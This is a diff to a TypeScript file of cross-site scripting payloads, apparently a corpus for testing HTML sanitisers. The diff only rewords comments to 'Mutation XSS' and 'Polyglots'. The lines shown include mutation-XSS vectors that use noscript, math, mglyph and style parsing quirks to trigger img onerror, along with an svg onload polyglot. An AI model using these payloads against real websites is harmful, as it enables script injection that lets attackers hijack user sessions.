@@ -2,7 +2,10 @@ import type { Attack } from './pieces.ts'
 
 const image = (call: string) => `<img src=x onerror=${call}>`
 
-/** Markup that means something else once it was read, written out and read again, and some that many parsers misread. */
+/**
+ * Mutation XSS: markup that changes its meaning when it is parsed, serialised and parsed again, and some that
+ * many parsers misread.
+ */
 const mended: readonly Attack[] = [
   ({ call }) => `<noscript><p title="</noscript>${image(call)}">`,
   ({ call }) => `<math><mtext><table><mglyph><style><!--</style>${image(call)}-->`,
@@ -55,7 +58,7 @@ const mended: readonly Attack[] = [
   ({ call }) => `<br size="&{${call}}">`,
 ]
 
-/** One text for many places at once. */
+/** Polyglots: one text for many contexts. */
 const polyglots: readonly Attack[] = [
   ({ call }) =>
     `"'/*\`--></title></style></textarea></script></noscript><svg/onload=${call}>//javascript:${call}`,
